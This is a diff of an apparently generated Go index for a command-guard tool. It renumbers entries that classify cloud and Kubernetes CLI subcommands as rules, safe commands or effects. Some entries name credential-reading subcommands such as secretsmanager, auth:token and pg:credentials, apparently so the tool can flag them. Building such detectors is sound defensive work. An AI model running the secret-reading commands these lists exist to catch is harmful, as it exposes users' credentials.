@@ -6,7 +6,7 @@ func init() {
 	generated = generatedPacks
 	generatedExes = generatedExeIndex
 	generatedAny = generatedAnyIndex
-	generatedDigest = "sha256:e56553646c50095800e2ba819a7fc60d1b75f873fad2d7863a01d0b99238bca9"
+	generatedDigest = "sha256:0233a5445d8a6f6c29136c964de771f2976f84da947841cd937f74c0920e90fa"
 }
 
 var generatedPacks = []genPack{
@@ -40,24 +40,24 @@ var generatedPacks = []genPack{
 		{line: 45, kind: "rule", exes: []string{"aws"}, subs: []string{"s3"}, trigger: "", build: packsCloudL45},
 		{line: 55, kind: "rule", exes: []string{"aws"}, subs: []string{"s3"}, trigger: "", build: packsCloudL55},
 		{line: 68, kind: "rule", exes: []string{"aws"}, subs: nil, trigger: "", build: packsCloudL68},
-		{line: 81, kind: "rule", exes: []string{"aws"}, subs: []string{"route53"}, trigger: "", build: packsCloudL81},
-		{line: 93, kind: "rule", exes: []string{"aws"}, subs: []string{"iam", "organizations", "sts", "kms"}, trigger: "", build: packsCloudL93},
-		{line: 106, kind: "rule", exes: []string{"gcloud"}, subs: nil, trigger: "", build: packsCloudL106},
-		{line: 118, kind: "rule", exes: []string{"gsutil"}, subs: nil, trigger: "", build: packsCloudL118},
-		{line: 132, kind: "rule", exes: []string{"az"}, subs: nil, trigger: "", build: packsCloudL132},
-		{line: 144, kind: "rule", exes: []string{"azcopy"}, subs: nil, trigger: "", build: packsCloudL144},
-		{line: 156, kind: "rule", exes: []string{"azcopy"}, subs: []string{"sync"}, trigger: "", build: packsCloudL156},
-		{line: 168, kind: "rule", exes: []string{"s3cmd", "mc", "rclone"}, subs: nil, trigger: "", build: packsCloudL168},
-		{line: 181, kind: "rule", exes: []string{"doctl", "linode-cli", "hcloud", "oci", "ibmcloud", "flyctl", "fly", "heroku", "vercel", "netlify", "wrangler", "firebase", "supabase", "railway", "render", "amplify", "copilot", "eb"}, subs: nil, trigger: "", build: packsCloudL181},
-		{line: 193, kind: "rule", exes: []string{"cdk", "sam", "serverless", "sls"}, subs: nil, trigger: "", build: packsCloudL193},
-		{line: 205, kind: "rule", exes: []string{"nsupdate"}, subs: nil, trigger: "", build: packsCloudL205},
-		{line: 214, kind: "safe", exes: []string{"aws"}, subs: nil, trigger: "", build: packsCloudL214},
-		{line: 219, kind: "safe", exes: []string{"gcloud"}, subs: nil, trigger: "", build: packsCloudL219},
-		{line: 224, kind: "safe", exes: []string{"gsutil"}, subs: nil, trigger: "", build: packsCloudL224},
-		{line: 229, kind: "safe", exes: []string{"az"}, subs: nil, trigger: "", build: packsCloudL229},
-		{line: 234, kind: "safe", exes: []string{"azcopy"}, subs: nil, trigger: "", build: packsCloudL234},
-		{line: 239, kind: "safe", exes: []string{"s3cmd", "mc", "rclone"}, subs: nil, trigger: "", build: packsCloudL239},
-		{line: 244, kind: "urls", exes: []string{"aws", "gcloud", "az"}, subs: nil, trigger: "", build: packsCloudL244},
+		{line: 80, kind: "rule", exes: []string{"aws"}, subs: []string{"route53"}, trigger: "", build: packsCloudL80},
+		{line: 92, kind: "rule", exes: []string{"aws"}, subs: []string{"iam", "organizations", "sts", "kms"}, trigger: "", build: packsCloudL92},
+		{line: 105, kind: "rule", exes: []string{"gcloud"}, subs: nil, trigger: "", build: packsCloudL105},
+		{line: 117, kind: "rule", exes: []string{"gsutil"}, subs: nil, trigger: "", build: packsCloudL117},
+		{line: 131, kind: "rule", exes: []string{"az"}, subs: nil, trigger: "", build: packsCloudL131},
+		{line: 143, kind: "rule", exes: []string{"azcopy"}, subs: nil, trigger: "", build: packsCloudL143},
+		{line: 155, kind: "rule", exes: []string{"azcopy"}, subs: []string{"sync"}, trigger: "", build: packsCloudL155},
+		{line: 167, kind: "rule", exes: []string{"s3cmd", "mc", "rclone"}, subs: nil, trigger: "", build: packsCloudL167},
+		{line: 180, kind: "rule", exes: []string{"doctl", "linode-cli", "hcloud", "oci", "ibmcloud", "flyctl", "fly", "heroku", "vercel", "netlify", "wrangler", "firebase", "supabase", "railway", "render", "amplify", "copilot", "eb"}, subs: nil, trigger: "", build: packsCloudL180},
+		{line: 192, kind: "rule", exes: []string{"cdk", "sam", "serverless", "sls"}, subs: nil, trigger: "", build: packsCloudL192},
+		{line: 204, kind: "rule", exes: []string{"nsupdate"}, subs: nil, trigger: "", build: packsCloudL204},
+		{line: 213, kind: "safe", exes: []string{"aws"}, subs: nil, trigger: "", build: packsCloudL213},
+		{line: 218, kind: "safe", exes: []string{"gcloud"}, subs: nil, trigger: "", build: packsCloudL218},
+		{line: 223, kind: "safe", exes: []string{"gsutil"}, subs: nil, trigger: "", build: packsCloudL223},
+		{line: 228, kind: "safe", exes: []string{"az"}, subs: nil, trigger: "", build: packsCloudL228},
+		{line: 233, kind: "safe", exes: []string{"azcopy"}, subs: nil, trigger: "", build: packsCloudL233},
+		{line: 238, kind: "safe", exes: []string{"s3cmd", "mc", "rclone"}, subs: nil, trigger: "", build: packsCloudL238},
+		{line: 243, kind: "urls", exes: []string{"aws", "gcloud", "az"}, subs: nil, trigger: "", build: packsCloudL243},
 	}},
 	{file: "packs/containers.toml", header: packHeader{Name: "containers", Executables: []string{"docker", "podman", "nerdctl", "docker-compose", "podman-compose"}}, blocks: []genBlock{
 		{line: 5, kind: "exe", exes: []string{"docker"}, subs: nil, trigger: "", build: packsContainersL5},
@@ -318,25 +318,25 @@ var generatedPacks = []genPack{
 		{line: 14, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"delete"}, trigger: "", build: packsKubernetesL14},
 		{line: 27, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"delete"}, trigger: "", build: packsKubernetesL27},
 		{line: 39, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"delete"}, trigger: "", build: packsKubernetesL39},
-		{line: 51, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"drain", "cordon", "taint"}, trigger: "", build: packsKubernetesL51},
-		{line: 61, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"scale"}, trigger: "", build: packsKubernetesL61},
-		{line: 73, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"apply"}, trigger: "", build: packsKubernetesL73},
-		{line: 85, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"replace", "apply"}, trigger: "", build: packsKubernetesL85},
-		{line: 97, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"get", "describe"}, trigger: "", build: packsKubernetesL97},
-		{line: 112, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"exec", "debug", "attach", "run"}, trigger: "", build: packsKubernetesL112},
-		{line: 122, kind: "rule", exes: []string{"helm"}, subs: []string{"uninstall", "delete", "del", "un"}, trigger: "", build: packsKubernetesL122},
-		{line: 134, kind: "rule", exes: []string{"helm"}, subs: []string{"rollback"}, trigger: "", build: packsKubernetesL134},
-		{line: 144, kind: "rule", exes: []string{"helm"}, subs: []string{"upgrade", "install"}, trigger: "", build: packsKubernetesL144},
-		{line: 156, kind: "rule", exes: []string{"minikube", "kind", "k3d", "eksctl"}, subs: nil, trigger: "", build: packsKubernetesL156},
-		{line: 168, kind: "safe", exes: []string{"kubectl", "oc"}, subs: []string{"get", "describe", "logs", "top", "version", "explain", "api-resources", "api-versions", "cluster-info", "diff", "events", "wait", "completion", "plugin", "kustomize", "whoami"}, trigger: "", build: packsKubernetesL168},
-		{line: 172, kind: "safe", exes: []string{"kubectl", "oc"}, subs: []string{"config"}, trigger: "", build: packsKubernetesL172},
-		{line: 176, kind: "safe", exes: []string{"kubectl", "oc"}, subs: []string{"auth"}, trigger: "", build: packsKubernetesL176},
-		{line: 180, kind: "safe", exes: []string{"kubectl", "oc"}, subs: []string{"rollout"}, trigger: "", build: packsKubernetesL180},
-		{line: 184, kind: "safe", exes: []string{"kubectl", "oc"}, subs: []string{"apply", "create", "patch", "label", "annotate", "edit", "set", "rollout", "expose", "cp", "port-forward", "proxy", "config", "autoscale", "certificate", "uncordon"}, trigger: "", build: packsKubernetesL184},
-		{line: 189, kind: "safe", exes: []string{"helm"}, subs: []string{"list", "ls", "status", "get", "history", "template", "show", "search", "version", "lint", "env", "verify", "dependency", "repo", "plugin", "completion"}, trigger: "", build: packsKubernetesL189},
-		{line: 193, kind: "safe", exes: []string{"helm"}, subs: []string{"install", "upgrade", "pull", "package", "push", "test"}, trigger: "", build: packsKubernetesL193},
-		{line: 198, kind: "safe", exes: []string{"kustomize"}, subs: []string{"build", "cfg", "version"}, trigger: "", build: packsKubernetesL198},
-		{line: 202, kind: "safe", exes: []string{"kubectx", "kubens", "k9s"}, subs: nil, trigger: "", build: packsKubernetesL202},
+		{line: 49, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"drain", "cordon", "taint"}, trigger: "", build: packsKubernetesL49},
+		{line: 59, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"scale"}, trigger: "", build: packsKubernetesL59},
+		{line: 71, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"apply"}, trigger: "", build: packsKubernetesL71},
+		{line: 83, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"replace", "apply"}, trigger: "", build: packsKubernetesL83},
+		{line: 95, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"get", "describe"}, trigger: "", build: packsKubernetesL95},
+		{line: 110, kind: "rule", exes: []string{"kubectl", "oc"}, subs: []string{"exec", "debug", "attach", "run"}, trigger: "", build: packsKubernetesL110},
+		{line: 120, kind: "rule", exes: []string{"helm"}, subs: []string{"uninstall", "delete", "del", "un"}, trigger: "", build: packsKubernetesL120},
+		{line: 130, kind: "rule", exes: []string{"helm"}, subs: []string{"rollback"}, trigger: "", build: packsKubernetesL130},
+		{line: 140, kind: "rule", exes: []string{"helm"}, subs: []string{"upgrade", "install"}, trigger: "", build: packsKubernetesL140},
+		{line: 152, kind: "rule", exes: []string{"minikube", "kind", "k3d", "eksctl"}, subs: nil, trigger: "", build: packsKubernetesL152},
+		{line: 164, kind: "safe", exes: []string{"kubectl", "oc"}, subs: []string{"get", "describe", "logs", "top", "version", "explain", "api-resources", "api-versions", "cluster-info", "diff", "events", "wait", "completion", "plugin", "kustomize", "whoami"}, trigger: "", build: packsKubernetesL164},
+		{line: 168, kind: "safe", exes: []string{"kubectl", "oc"}, subs: []string{"config"}, trigger: "", build: packsKubernetesL168},
+		{line: 172, kind: "safe", exes: []string{"kubectl", "oc"}, subs: []string{"auth"}, trigger: "", build: packsKubernetesL172},
+		{line: 176, kind: "safe", exes: []string{"kubectl", "oc"}, subs: []string{"rollout"}, trigger: "", build: packsKubernetesL176},
+		{line: 180, kind: "safe", exes: []string{"kubectl", "oc"}, subs: []string{"apply", "create", "patch", "label", "annotate", "edit", "set", "rollout", "expose", "cp", "port-forward", "proxy", "config", "autoscale", "certificate", "uncordon"}, trigger: "", build: packsKubernetesL180},
+		{line: 185, kind: "safe", exes: []string{"helm"}, subs: []string{"list", "ls", "status", "get", "history", "template", "show", "search", "version", "lint", "env", "verify", "dependency", "repo", "plugin", "completion"}, trigger: "", build: packsKubernetesL185},
+		{line: 189, kind: "safe", exes: []string{"helm"}, subs: []string{"install", "upgrade", "pull", "package", "push", "test"}, trigger: "", build: packsKubernetesL189},
+		{line: 194, kind: "safe", exes: []string{"kustomize"}, subs: []string{"build", "cfg", "version"}, trigger: "", build: packsKubernetesL194},
+		{line: 198, kind: "safe", exes: []string{"kubectx", "kubens", "k9s"}, subs: nil, trigger: "", build: packsKubernetesL198},
 	}},
 	{file: "packs/packages.toml", header: packHeader{Name: "packages", Executables: []string{"npm", "yarn", "pnpm", "bun", "pip", "pip3", "pipx", "uv", "poetry", "twine", "flit", "hatch", "cargo", "gem", "go", "composer", "dotnet", "nuget", "mvn", "gradle", "brew", "apt", "apt-get", "yum", "dnf", "pacman", "zypper", "apk", "snap", "flatpak", "port", "conda", "mamba", "python", "python3", "deno", "mix", "rebar3", "swift", "pod", "helm", "gradlew", "mvnw"}}, blocks: []genBlock{
 		{line: 5, kind: "exe", exes: []string{"npm"}, subs: nil, trigger: "", build: packsPackagesL5},
@@ -660,249 +660,257 @@ var generatedPacks = []genPack{
 	}},
 	{file: "effects/cloud.toml", header: packHeader{Name: "effects-cloud", Executables: []string{"aws", "az", "gcloud", "gsutil", "azcopy", "s3cmd", "rclone", "doctl", "heroku", "fly", "vercel", "netlify", "wrangler", "terraform", "tofu", "terragrunt", "pulumi"}}, blocks: []genBlock{
 		{line: 18, kind: "program", exes: []string{"aws"}, subs: nil, trigger: "", build: effectsCloudL18},
-		{line: 37, kind: "program", exes: []string{"aws"}, subs: nil, trigger: "", build: effectsCloudL37},
-		{line: 52, kind: "program", exes: []string{"aws"}, subs: []string{"sts"}, trigger: "", build: effectsCloudL52},
-		{line: 63, kind: "program", exes: []string{"aws"}, subs: []string{"sts"}, trigger: "", build: effectsCloudL63},
-		{line: 74, kind: "program", exes: []string{"aws"}, subs: []string{"ecr", "ecr-public"}, trigger: "", build: effectsCloudL74},
-		{line: 84, kind: "program", exes: []string{"aws"}, subs: []string{"codeartifact"}, trigger: "", build: effectsCloudL84},
-		{line: 93, kind: "program", exes: []string{"aws"}, subs: []string{"secretsmanager"}, trigger: "", build: effectsCloudL93},
-		{line: 103, kind: "program", exes: []string{"aws"}, subs: []string{"ssm"}, trigger: "", build: effectsCloudL103},
-		{line: 113, kind: "program", exes: []string{"aws"}, subs: []string{"eks", "sso", "redshift", "redshift-serverless", "lightsail", "ec2", "cognito-identity"}, trigger: "", build: effectsCloudL113},
-		{line: 125, kind: "program", exes: []string{"aws"}, subs: []string{"iam"}, trigger: "", build: effectsCloudL125},
-		{line: 135, kind: "program", exes: []string{"aws"}, subs: []string{"rds", "s3"}, trigger: "", build: effectsCloudL135},
-		{line: 145, kind: "program", exes: []string{"aws"}, subs: []string{"eks"}, trigger: "", build: effectsCloudL145},
-		{line: 156, kind: "program", exes: []string{"aws"}, subs: []string{"configure"}, trigger: "", build: effectsCloudL156},
-		{line: 162, kind: "program", exes: []string{"aws"}, subs: []string{"configure"}, trigger: "", build: effectsCloudL162},
-		{line: 169, kind: "program", exes: []string{"aws"}, subs: []string{"configure"}, trigger: "", build: effectsCloudL169},
-		{line: 176, kind: "program", exes: []string{"aws"}, subs: []string{"configure"}, trigger: "", build: effectsCloudL176},
-		{line: 183, kind: "program", exes: []string{"aws"}, subs: []string{"configure"}, trigger: "", build: effectsCloudL183},
-		{line: 191, kind: "program", exes: []string{"aws"}, subs: []string{"s3"}, trigger: "", build: effectsCloudL191},
-		{line: 204, kind: "program", exes: []string{"aws"}, subs: []string{"s3"}, trigger: "", build: effectsCloudL204},
-		{line: 226, kind: "program", exes: []string{"aws"}, subs: []string{"s3"}, trigger: "", build: effectsCloudL226},
-		{line: 240, kind: "program", exes: []string{"aws"}, subs: []string{"s3"}, trigger: "", build: effectsCloudL240},
-		{line: 252, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL252},
-		{line: 265, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL265},
-		{line: 272, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL272},
-		{line: 280, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL280},
-		{line: 288, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL288},
-		{line: 299, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL299},
-		{line: 310, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL310},
-		{line: 318, kind: "program", exes: []string{"az"}, subs: []string{"account"}, trigger: "", build: effectsCloudL318},
+		{line: 38, kind: "program", exes: []string{"aws"}, subs: nil, trigger: "", build: effectsCloudL38},
+		{line: 53, kind: "program", exes: []string{"aws"}, subs: []string{"sts"}, trigger: "", build: effectsCloudL53},
+		{line: 65, kind: "program", exes: []string{"aws"}, subs: []string{"s3api", "iam", "cloudformation", "logs", "cloudwatch", "ecr", "sqs", "sns", "route53", "acm", "elbv2", "autoscaling", "eks", "organizations", "cloudtrail", "kms", "apigateway"}, trigger: "", build: effectsCloudL65},
+		{line: 89, kind: "program", exes: []string{"aws"}, subs: []string{"lambda", "ecs", "appsync", "cognito-idp", "glue", "elasticbeanstalk", "amplify", "batch"}, trigger: "", build: effectsCloudL89},
+		{line: 103, kind: "program", exes: []string{"aws"}, subs: []string{"ec2"}, trigger: "", build: effectsCloudL103},
+		{line: 116, kind: "program", exes: []string{"aws"}, subs: []string{"sts"}, trigger: "", build: effectsCloudL116},
+		{line: 127, kind: "program", exes: []string{"aws"}, subs: []string{"ecr", "ecr-public"}, trigger: "", build: effectsCloudL127},
+		{line: 137, kind: "program", exes: []string{"aws"}, subs: []string{"codeartifact"}, trigger: "", build: effectsCloudL137},
+		{line: 146, kind: "program", exes: []string{"aws"}, subs: []string{"secretsmanager"}, trigger: "", build: effectsCloudL146},
+		{line: 156, kind: "program", exes: []string{"aws"}, subs: []string{"ssm"}, trigger: "", build: effectsCloudL156},
+		{line: 168, kind: "program", exes: []string{"aws"}, subs: []string{"eks", "sso", "redshift", "redshift-serverless", "lightsail", "ec2", "cognito-identity"}, trigger: "", build: effectsCloudL168},
+		{line: 180, kind: "program", exes: []string{"aws"}, subs: []string{"iam"}, trigger: "", build: effectsCloudL180},
+		{line: 190, kind: "program", exes: []string{"aws"}, subs: []string{"rds", "s3"}, trigger: "", build: effectsCloudL190},
+		{line: 200, kind: "program", exes: []string{"aws"}, subs: []string{"eks"}, trigger: "", build: effectsCloudL200},
+		{line: 211, kind: "program", exes: []string{"aws"}, subs: []string{"configure"}, trigger: "", build: effectsCloudL211},
+		{line: 217, kind: "program", exes: []string{"aws"}, subs: []string{"configure"}, trigger: "", build: effectsCloudL217},
+		{line: 224, kind: "program", exes: []string{"aws"}, subs: []string{"configure"}, trigger: "", build: effectsCloudL224},
+		{line: 231, kind: "program", exes: []string{"aws"}, subs: []string{"configure"}, trigger: "", build: effectsCloudL231},
+		{line: 238, kind: "program", exes: []string{"aws"}, subs: []string{"configure"}, trigger: "", build: effectsCloudL238},
+		{line: 246, kind: "program", exes: []string{"aws"}, subs: []string{"s3"}, trigger: "", build: effectsCloudL246},
+		{line: 259, kind: "program", exes: []string{"aws"}, subs: []string{"s3"}, trigger: "", build: effectsCloudL259},
+		{line: 281, kind: "program", exes: []string{"aws"}, subs: []string{"s3"}, trigger: "", build: effectsCloudL281},
+		{line: 295, kind: "program", exes: []string{"aws"}, subs: []string{"s3"}, trigger: "", build: effectsCloudL295},
+		{line: 307, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL307},
+		{line: 320, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL320},
 		{line: 327, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL327},
-		{line: 336, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL336},
-		{line: 346, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL346},
-		{line: 355, kind: "program", exes: []string{"az"}, subs: nil, trigger: "", build: effectsCloudL355},
-		{line: 362, kind: "program", exes: []string{"az"}, subs: []string{"account"}, trigger: "", build: effectsCloudL362},
-		{line: 369, kind: "program", exes: []string{"az"}, subs: []string{"storage", "webapp", "functionapp", "redis", "cosmosdb"}, trigger: "", build: effectsCloudL369},
-		{line: 376, kind: "program", exes: []string{"az"}, subs: []string{"storage", "webapp", "functionapp"}, trigger: "", build: effectsCloudL376},
-		{line: 384, kind: "program", exes: []string{"az"}, subs: []string{"acr"}, trigger: "", build: effectsCloudL384},
-		{line: 394, kind: "program", exes: []string{"az"}, subs: []string{"aks"}, trigger: "", build: effectsCloudL394},
-		{line: 405, kind: "program", exes: []string{"az"}, subs: []string{"login", "logout", "version", "upgrade"}, trigger: "", build: effectsCloudL405},
-		{line: 414, kind: "program", exes: []string{"az"}, subs: []string{"config"}, trigger: "", build: effectsCloudL414},
-		{line: 421, kind: "program", exes: []string{"az"}, subs: []string{"storage"}, trigger: "", build: effectsCloudL421},
-		{line: 440, kind: "program", exes: []string{"gcloud"}, subs: nil, trigger: "", build: effectsCloudL440},
-		{line: 457, kind: "program", exes: []string{"gcloud"}, subs: []string{"auth"}, trigger: "", build: effectsCloudL457},
-		{line: 466, kind: "program", exes: []string{"gcloud"}, subs: []string{"auth"}, trigger: "", build: effectsCloudL466},
-		{line: 473, kind: "program", exes: []string{"gcloud"}, subs: []string{"config"}, trigger: "", build: effectsCloudL473},
-		{line: 481, kind: "program", exes: []string{"gcloud"}, subs: []string{"secrets"}, trigger: "", build: effectsCloudL481},
-		{line: 490, kind: "program", exes: []string{"gcloud"}, subs: []string{"auth", "config"}, trigger: "", build: effectsCloudL490},
-		{line: 497, kind: "program", exes: []string{"gcloud"}, subs: []string{"info", "version"}, trigger: "", build: effectsCloudL497},
-		{line: 506, kind: "program", exes: []string{"gcloud"}, subs: []string{"config"}, trigger: "", build: effectsCloudL506},
-		{line: 514, kind: "program", exes: []string{"gcloud"}, subs: []string{"projects", "organizations", "services", "functions", "secrets", "folders", "builds", "scheduler", "topic", "components"}, trigger: "", build: effectsCloudL514},
-		{line: 524, kind: "program", exes: []string{"gcloud"}, subs: nil, trigger: "", build: effectsCloudL524},
-		{line: 535, kind: "program", exes: []string{"gcloud"}, subs: nil, trigger: "", build: effectsCloudL535},
-		{line: 546, kind: "program", exes: []string{"gcloud"}, subs: nil, trigger: "", build: effectsCloudL546},
-		{line: 554, kind: "program", exes: []string{"gcloud"}, subs: []string{"container"}, trigger: "", build: effectsCloudL554},
-		{line: 564, kind: "program", exes: []string{"gcloud"}, subs: []string{"iam"}, trigger: "", build: effectsCloudL564},
-		{line: 572, kind: "program", exes: []string{"gcloud"}, subs: []string{"storage"}, trigger: "", build: effectsCloudL572},
-		{line: 581, kind: "program", exes: []string{"gcloud"}, subs: []string{"storage"}, trigger: "", build: effectsCloudL581},
-		{line: 598, kind: "program", exes: []string{"gcloud"}, subs: []string{"compute", "cloud-shell", "alpha", "beta"}, trigger: "", build: effectsCloudL598},
-		{line: 604, kind: "program", exes: []string{"gcloud"}, subs: []string{"auth"}, trigger: "", build: effectsCloudL604},
-		{line: 617, kind: "program", exes: []string{"gsutil"}, subs: nil, trigger: "", build: effectsCloudL617},
-		{line: 631, kind: "program", exes: []string{"gsutil"}, subs: []string{"ls", "cat", "du", "stat", "hash", "version"}, trigger: "", build: effectsCloudL631},
-		{line: 639, kind: "program", exes: []string{"gsutil"}, subs: []string{"cp", "rsync"}, trigger: "", build: effectsCloudL639},
-		{line: 655, kind: "program", exes: []string{"gsutil"}, subs: []string{"mv"}, trigger: "", build: effectsCloudL655},
-		{line: 669, kind: "program", exes: []string{"azcopy"}, subs: nil, trigger: "", build: effectsCloudL669},
-		{line: 677, kind: "program", exes: []string{"azcopy"}, subs: []string{"copy", "cp", "sync"}, trigger: "", build: effectsCloudL677},
-		{line: 697, kind: "program", exes: []string{"azcopy"}, subs: []string{"list", "remove", "rm", "make", "bench", "benchmark", "login", "logout"}, trigger: "", build: effectsCloudL697},
-		{line: 705, kind: "program", exes: []string{"azcopy"}, subs: []string{"jobs"}, trigger: "", build: effectsCloudL705},
-		{line: 711, kind: "program", exes: []string{"azcopy"}, subs: []string{"env"}, trigger: "", build: effectsCloudL711},
-		{line: 720, kind: "program", exes: []string{"s3cmd"}, subs: nil, trigger: "", build: effectsCloudL720},
-		{line: 739, kind: "program", exes: []string{"s3cmd"}, subs: []string{"ls", "la", "du", "info"}, trigger: "", build: effectsCloudL739},
-		{line: 750, kind: "program", exes: []string{"s3cmd"}, subs: []string{"get", "put", "sync"}, trigger: "", build: effectsCloudL750},
-		{line: 774, kind: "program", exes: []string{"rclone"}, subs: nil, trigger: "", build: effectsCloudL774},
-		{line: 800, kind: "program", exes: []string{"rclone"}, subs: []string{"ls", "lsd", "lsl", "lsf", "lsjson", "size", "about", "tree", "check", "cryptcheck", "md5sum", "sha1sum", "hashsum", "cat"}, trigger: "", build: effectsCloudL800},
-		{line: 814, kind: "program", exes: []string{"rclone"}, subs: []string{"listremotes", "version"}, trigger: "", build: effectsCloudL814},
-		{line: 824, kind: "program", exes: []string{"rclone"}, subs: []string{"config"}, trigger: "", build: effectsCloudL824},
-		{line: 832, kind: "program", exes: []string{"rclone"}, subs: []string{"config"}, trigger: "", build: effectsCloudL832},
-		{line: 839, kind: "program", exes: []string{"rclone"}, subs: []string{"authorize"}, trigger: "", build: effectsCloudL839},
-		{line: 845, kind: "program", exes: []string{"rclone"}, subs: []string{"copy", "copyto", "sync", "bisync", "copyurl"}, trigger: "", build: effectsCloudL845},
-		{line: 867, kind: "program", exes: []string{"rclone"}, subs: []string{"move", "moveto"}, trigger: "", build: effectsCloudL867},
-		{line: 882, kind: "program", exes: []string{"doctl"}, subs: nil, trigger: "", build: effectsCloudL882},
-		{line: 897, kind: "program", exes: []string{"doctl"}, subs: nil, trigger: "", build: effectsCloudL897},
-		{line: 904, kind: "program", exes: []string{"doctl"}, subs: nil, trigger: "", build: effectsCloudL904},
-		{line: 911, kind: "program", exes: []string{"doctl"}, subs: nil, trigger: "", build: effectsCloudL911},
-		{line: 919, kind: "program", exes: []string{"doctl"}, subs: nil, trigger: "", build: effectsCloudL919},
-		{line: 927, kind: "program", exes: []string{"doctl"}, subs: []string{"account", "balance", "invoice"}, trigger: "", build: effectsCloudL927},
-		{line: 934, kind: "program", exes: []string{"doctl"}, subs: []string{"auth"}, trigger: "", build: effectsCloudL934},
-		{line: 944, kind: "program", exes: []string{"doctl"}, subs: []string{"kubernetes", "k8s", "k"}, trigger: "", build: effectsCloudL944},
-		{line: 951, kind: "program", exes: []string{"doctl"}, subs: []string{"registry", "reg", "r"}, trigger: "", build: effectsCloudL951},
-		{line: 959, kind: "program", exes: []string{"doctl"}, subs: []string{"version"}, trigger: "", build: effectsCloudL959},
-		{line: 964, kind: "program", exes: []string{"doctl"}, subs: []string{"compute"}, trigger: "", build: effectsCloudL964},
-		{line: 970, kind: "program", exes: []string{"heroku"}, subs: nil, trigger: "", build: effectsCloudL970},
-		{line: 977, kind: "program", exes: []string{"heroku"}, subs: []string{"auth:token", "config", "config:get", "pg:credentials:url", "pg:credentials"}, trigger: "", build: effectsCloudL977},
-		{line: 985, kind: "program", exes: []string{"heroku"}, subs: []string{"apps", "apps:info", "info", "ps", "logs", "releases", "addons", "domains", "status", "whoami", "auth:whoami", "regions", "pipelines", "teams", "access", "features", "labs", "stack", "buildpacks", "drains", "certs", "spaces", "pg:info", "version", "--version"}, trigger: "", build: effectsCloudL985},
-		{line: 994, kind: "program", exes: []string{"heroku"}, subs: []string{"run", "run:detached", "local", "local:run", "ps:exec", "pg:psql", "redis:cli", "console"}, trigger: "", build: effectsCloudL994},
-		{line: 1000, kind: "program", exes: []string{"heroku"}, subs: []string{"login", "logout", "auth:login", "auth:logout", "git:remote", "git:clone"}, trigger: "", build: effectsCloudL1000},
-		{line: 1006, kind: "program", exes: []string{"fly"}, subs: nil, trigger: "", build: effectsCloudL1006},
-		{line: 1018, kind: "program", exes: []string{"fly"}, subs: []string{"auth", "tokens"}, trigger: "", build: effectsCloudL1018},
-		{line: 1025, kind: "program", exes: []string{"fly"}, subs: []string{"status", "logs", "info", "ips", "regions", "releases", "doctor", "dashboard", "checks", "services"}, trigger: "", build: effectsCloudL1025},
-		{line: 1036, kind: "program", exes: []string{"fly"}, subs: []string{"secrets", "apps", "machine", "machines", "m", "volumes", "volume", "vol", "postgres", "pg", "certs", "orgs", "auth", "scale", "ips", "tokens"}, trigger: "", build: effectsCloudL1036},
-		{line: 1047, kind: "program", exes: []string{"fly"}, subs: []string{"version"}, trigger: "", build: effectsCloudL1047},
-		{line: 1053, kind: "program", exes: []string{"fly"}, subs: []string{"deploy", "launch", "console", "ssh", "sftp", "proxy", "mpg"}, trigger: "", build: effectsCloudL1053},
-		{line: 1059, kind: "program", exes: []string{"vercel"}, subs: nil, trigger: "", build: effectsCloudL1059},
-		{line: 1074, kind: "program", exes: []string{"vercel"}, subs: []string{"ls", "list", "inspect", "logs", "whoami", "domains", "projects", "project", "teams"}, trigger: "", build: effectsCloudL1074},
-		{line: 1084, kind: "program", exes: []string{"vercel"}, subs: []string{"env"}, trigger: "", build: effectsCloudL1084},
-		{line: 1094, kind: "program", exes: []string{"vercel"}, subs: []string{"pull"}, trigger: "", build: effectsCloudL1094},
-		{line: 1104, kind: "program", exes: []string{"vercel"}, subs: []string{"env"}, trigger: "", build: effectsCloudL1104},
-		{line: 1115, kind: "program", exes: []string{"vercel"}, subs: []string{"dev", "build", "deploy", "link", "login", "logout", "switch", "redeploy", "promote", "rollback", "alias", "dns", "certs", "git", "integration", "env", "bisect"}, trigger: "", build: effectsCloudL1115},
-		{line: 1121, kind: "program", exes: []string{"netlify"}, subs: nil, trigger: "", build: effectsCloudL1121},
-		{line: 1130, kind: "program", exes: []string{"netlify"}, subs: []string{"env:list", "env:get"}, trigger: "", build: effectsCloudL1130},
-		{line: 1138, kind: "program", exes: []string{"netlify"}, subs: []string{"status", "sites:list", "functions:list", "logs", "logs:function", "logs:deploy", "watch", "api"}, trigger: "", build: effectsCloudL1138},
-		{line: 1148, kind: "program", exes: []string{"netlify"}, subs: []string{"deploy"}, trigger: "", build: effectsCloudL1148},
-		{line: 1162, kind: "program", exes: []string{"netlify"}, subs: []string{"dev", "build", "serve", "functions:serve", "functions:invoke", "functions:build", "login", "logout", "link", "unlink", "init", "switch", "env:set", "env:unset", "env:import", "env:clone", "open"}, trigger: "", build: effectsCloudL1162},
-		{line: 1168, kind: "program", exes: []string{"wrangler"}, subs: nil, trigger: "", build: effectsCloudL1168},
